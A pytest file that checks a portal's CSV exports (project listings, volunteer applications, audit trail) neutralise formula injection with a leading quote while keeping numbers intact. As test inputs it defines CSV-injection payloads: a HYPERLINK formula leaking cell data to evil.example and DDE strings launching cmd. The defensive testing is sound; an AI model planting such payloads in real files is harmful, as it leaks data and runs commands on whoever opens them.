"""Every CSV the portal writes opens in Excel as text: a cell that a spreadsheet would run as a
formula gets a leading single quote (OWASP, "CSV Injection"), and numbers stay numbers.

The attacks are typed where the public can type: a listing's fields (projects.csv), an
applicant's name (the reviewers' volunteers.csv) and a request path recorded in the audit trail
(the audit export)."""

import csv
import io

import pytest

from audit.models import AuditEntry
from spreadsheet import spreadsheet_cell
from tests.factories.directory import DivisionFactory, OrganizationFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-1+2"
TAB_LED = "\t=1+1"
CR_LED = "\r=1+1"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT_SUM, "'" + AT_SUM),
        (MINUS_FORMULA, "'" + MINUS_FORMULA),
        (TAB_LED, "'" + TAB_LED),
        (CR_LED, "'" + CR_LED),
        ("-", "'-"),
        # Numbers stay numbers, as values and as the text the open-data writer passes.
        ("-12", "-12"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("1e3", "1e3"),
        (-12, -12),
        (-0.5, -0.5),
        (0, 0),
        # Ordinary text is untouched, including a formula character later in the cell.
        ("夏令营 = 快乐", "夏令营 = 快乐"),
        ("a@b", "a@b"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_evaluate_it(typed, written):
    assert spreadsheet_cell(typed) == written


def _rows(response) -> list[dict]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_projects_csv_writes_formulas_as_text_and_numbers_as_numbers(client):
    county = DivisionFactory(code="350429", name="泰宁县", level="county")
    organization = OrganizationFactory(name=HYPERLINK, service_area=[county])
    project = ProjectFactory(
        organization=organization,
        title=DDE,
        summary=AT_SUM,
        schedule=MINUS_FORMULA,
        cost=TAB_LED,
        how_to_join=CR_LED,
        capacity=40,
        age_min=8,
        divisions=[county],
    )
    response = client.get("/opendata/projects.csv")
    assert response.status_code == 200
    [row] = [r for r in _rows(response) if r["id"] == str(project.pk)]
    assert row["title"] == "'" + DDE
    assert row["summary"] == "'" + AT_SUM
    assert row["schedule"] == "'" + MINUS_FORMULA
    assert row["cost"] == "'" + TAB_LED
    assert row["how_to_join"] == "'" + CR_LED
    assert row["organization_name"] == "'" + HYPERLINK
    assert (row["capacity"], row["age_min"]) == ("40", "8")
    # No cell of the file starts with a formula character unless it is a plain number.
    for cell in (c for r in _rows(client.get("/opendata/projects.csv")) for c in r.values()):
        assert not cell or spreadsheet_cell(cell) == cell or cell.startswith("'")


def test_the_reviewers_volunteer_export_writes_a_typed_formula_as_text(client, settings):
    from tests.factories.volunteer import (
        ApplicationFactory,
        ReviewerScopeFactory,
        UserFactory,
        add_totp,
    )

    county = DivisionFactory(code="350429", name="泰宁县", level="county")
    scope = ReviewerScopeFactory(division=county, user=UserFactory(is_staff=True))
    add_totp(scope.user)
    ApplicationFactory(county=county, real_name=HYPERLINK, role="caring_parent")
    client.force_login(scope.user)
    response = client.get("/volunteer/review/export.csv?role=caring_parent")
    assert response.status_code == 200
    [row] = _rows(response)
    assert row["real_name"] == "'" + HYPERLINK
    assert row["county_code"] == "350429"


def test_the_audit_trail_export_writes_a_recorded_path_as_text(client, admin_user):
    AuditEntry.objects.create(action="access.denied", path="=cmd|' /C calc'!A0", detail=DDE)
    client.force_login(admin_user)
    response = client.get("/admin/audit/?export=csv")
    assert response.status_code == 200
    [row] = [r for r in _rows(response) if r["detail"].endswith("A0")]
    assert row["path"] == "'=cmd|' /C calc'!A0"
    assert row["detail"] == "'" + DDE
